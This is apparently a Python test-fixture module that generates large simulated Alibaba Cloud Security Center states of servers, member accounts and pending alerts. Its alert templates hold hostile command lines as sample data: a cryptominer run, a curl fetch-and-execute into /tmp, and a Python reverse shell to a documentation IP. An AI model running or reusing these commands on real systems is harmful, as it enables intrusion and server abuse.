# Copyright (c) Ansible Project / alicloud.security_center contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""States with as many alerts, members or servers as are asked for, to see how something fares with many of them."""

from __future__ import annotations

import hashlib
import itertools
from collections.abc import Callable, Iterator
from typing import Any

from .clock import Clock
from .seed_accounts import OWN_ACCOUNT, accounts, keys
from .state import Account, Alert, Asset, State

FIRST_ID = 1_000_000
FIRST_MEMBER = 4_000_000_000_000_000
SERVERS = 100
MEMBER_SERVERS = 10
_EDITIONS = (3, 5, 7)
_SOFT = ["advance_mark_mis_info", "ignore", "manual_handled"]
_SECOND_MS = 1000
_DOCUMENTATION = ("203.0.113", "198.51.100", "192.0.2")  # RFC 5737
_REGIONS = ("cn-hangzhou", "cn-shanghai", "cn-beijing", "cn-shenzhen")


def crowd(count: int) -> State:
    """The seed's accounts and keys, and ``count`` pending alerts of a hundred servers, one a second until now."""
    clock = Clock()
    last = clock.now_ms()
    servers = [_server(number) for number in range(SERVERS)]
    alerts = [
        _alert(number, servers[number % SERVERS], last - (count - number) * _SECOND_MS, kind)
        for number, kind in zip(range(count), itertools.cycle(_kinds()), strict=False)
    ]
    return State(accounts=accounts(), keys=keys([]), assets=servers, alerts=alerts, clock=clock)


def crowd_of_members(count: int, alerts_each: int) -> State:
    """``count`` members with ten servers and ``alerts_each`` pending alerts each, one every ten seconds; none of the own account."""
    clock = Clock()
    last = clock.now_ms()
    members = [
        Account(FIRST_MEMBER + number, f"example-member-{number:03d}", edition=_EDITIONS[number % len(_EDITIONS)])
        for number in range(count)
    ]
    own = Account(OWN_ACCOUNT, "example-corp", members=[member.id for member in members])
    servers = [_server(number, members[number // MEMBER_SERVERS].id) for number in range(count * MEMBER_SERVERS)]
    kinds = list(_kinds())
    alerts = []
    for place in range(count):
        mine = servers[place * MEMBER_SERVERS : (place + 1) * MEMBER_SERVERS]
        # Alerts of one kind on one server share their texts: a crowd of members is for counting, and has to fit.
        shared = {
            (kind, one): _alert(place * alerts_each + one, mine[one], last, kinds[kind])
            for kind in range(len(kinds))
            for one in range(MEMBER_SERVERS)
        }
        for number in range(alerts_each):
            like = shared[number % len(kinds), number % MEMBER_SERVERS]
            last_ms = last - (alerts_each - number) * 10 * _SECOND_MS - place
            alerts.append(_like(like, FIRST_ID + place * alerts_each + number, last_ms))
    return State(accounts=[own, *members], keys=keys([]), assets=servers, alerts=alerts, clock=clock)


def crowd_of_servers(count: int, with_alerts: int) -> State:
    """``count`` servers in twenty groups, and a pending alert on each of ``with_alerts`` of them, spread among the others."""
    clock = Clock()
    last = clock.now_ms()
    servers = [_server(number) for number in range(count)]
    for number, server in enumerate(servers):
        server.group_id, server.group_name = number % 20 + 1, f"group-{number % 20 + 1:02d}"
        server.region_id = _REGIONS[number % len(_REGIONS)]
    step = max(1, count // max(1, with_alerts))
    kinds = itertools.cycle(_kinds())
    alerts = [
        _alert(number, servers[number * step], last - (with_alerts - number) * _SECOND_MS, next(kinds))
        for number in range(with_alerts)
    ]
    return State(accounts=accounts(), keys=keys([]), assets=servers, alerts=alerts, clock=clock)


def alerts_of(first: int, servers: Iterator[Asset], now_ms: Callable[[], int]) -> Iterator[Alert]:
    """One new alert after the other, each of the moment in which it is taken."""
    for number, server, kind in zip(itertools.count(first), servers, itertools.cycle(_kinds()), strict=False):
        yield _alert(number, server, now_ms(), kind)


def _like(alert: Alert, number: int, last_ms: int) -> Alert:
    return Alert(
        id=number,
        account_id=alert.account_id,
        occurred_ms=last_ms,
        last_ms=last_ms,
        event_type=alert.event_type,
        sub_type=alert.sub_type,
        level=alert.level,
        name=alert.name,
        name_zh=alert.name_zh,
        tactics=alert.tactics,
        description=alert.description,
        uuid=alert.uuid,
        operations=alert.operations,
        details=alert.details,
        mark_sources=alert.mark_sources,
    )


def _server(number: int, account_id: int = OWN_ACCOUNT) -> Asset:
    high, low = divmod(number, 254)
    return Asset(
        uuid=f"7c0d1e2f-3a4b-4c5d-8e6f-{number:012x}",
        account_id=account_id,
        instance_id=f"i-bp1crowd{number:010d}",
        name=f"shop-frontend-prod-{number:03d}",
        internet_ip=f"{_DOCUMENTATION[high % len(_DOCUMENTATION)]}.{low + 1}",
        intranet_ip=f"10.{1 + high // 256}.{high % 256}.{low + 1}",
        tag="prod",
        importance=2,
    )


def _alert(number: int, server: Asset, last_ms: int, kind: dict[str, Any]) -> Alert:
    pid = 2000 + number * 7 % 60_000
    md5 = hashlib.md5(str(number).encode()).hexdigest()
    path = kind["path"].format(number=number, md5=md5)
    command_line = kind["command_line"].format(number=number, path=path, address=server.intranet_ip)
    details = {
        "path": path,
        "md5": md5,
        "pid": str(pid),
        "command_line": command_line,
        "user": "www-data",
        "remote_address": f"198.51.100.{number % 254 + 1}:{1024 + pid}",
        "tip": f"The process tree was systemd(1) -> php-fpm(612) -> sh({pid - 1}) -> {path}({pid}). {_ADVICE}",
    }
    return Alert(
        id=FIRST_ID + number,
        account_id=server.account_id,
        occurred_ms=last_ms,
        last_ms=last_ms,
        uuid=server.uuid,
        operations=[*kind["operations"], *_SOFT],
        details=details,
        mark_sources={"filePath": path, "md5": md5, "cmdLine": command_line},
        **kind["alert"],
    )


def _kinds() -> Iterator[dict[str, Any]]:
    yield {
        "path": "/var/www/html/wp-content/uploads/2026/{number}/.cache/kworker-{md5}",
        "command_line": "{path} --algo rx/0 --url stratum+tcp://pool.example.net:3333 --user worker{number} --pass x "
        "--donate-level 1 --cpu-max-threads-hint 75 --background --log-file /dev/null --http-host {address}",
        "operations": ["kill_and_quara", "kill_process", "quara"],
        "alert": {
            "event_type": "Malicious Process", "sub_type": "mining_program", "level": "serious",
            "name": "Mining program", "name_zh": "挖矿程序", "tactics": ["TA0002", "TA0040"],
            "description": "A process uses the server to mine cryptocurrency. It was started by the web server, from a "
            "folder for uploads, and keeps a connection to a pool.",
        },
    }  # fmt: skip
    yield {
        "path": "/tmp/.X11-unix/.{md5}.sh",
        "command_line": "sh -c curl -fsSL http://203.0.113.200/{number}/install.sh -o {path} && chmod 700 {path} && "
        "nohup {path} --host {address} --quiet >/dev/null 2>&1 &",
        "operations": ["kill_and_quara", "kill_process"],
        "alert": {
            "event_type": "Malicious Script", "sub_type": "malicious_script", "level": "suspicious",
            "name": "Malicious script executed", "name_zh": "恶意脚本代码执行", "tactics": ["TA0002"],
            "description": "A script was fetched from an address and run in the same command, out of a folder that any "
            "user may write to.",
        },
    }  # fmt: skip
    yield {
        "path": "/usr/bin/python3.9",
        "command_line": "{path} -c import socket,subprocess,os;s=socket.socket();s.connect(('198.51.100.8',{number}));"
        "[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i']) # {address}",
        "operations": ["kill_process"],
        "alert": {
            "event_type": "Suspicious Process", "sub_type": "reverse_shell", "level": "serious",
            "name": "Reverse shell", "name_zh": "反弹shell", "tactics": ["TA0011"],
            "description": "A shell sends its input and output to a remote address that the server never spoke to "
            "before.",
        },
    }  # fmt: skip


_ADVICE = "Look for entries in cron and in systemd's timers, which usually bring the file back within minutes."
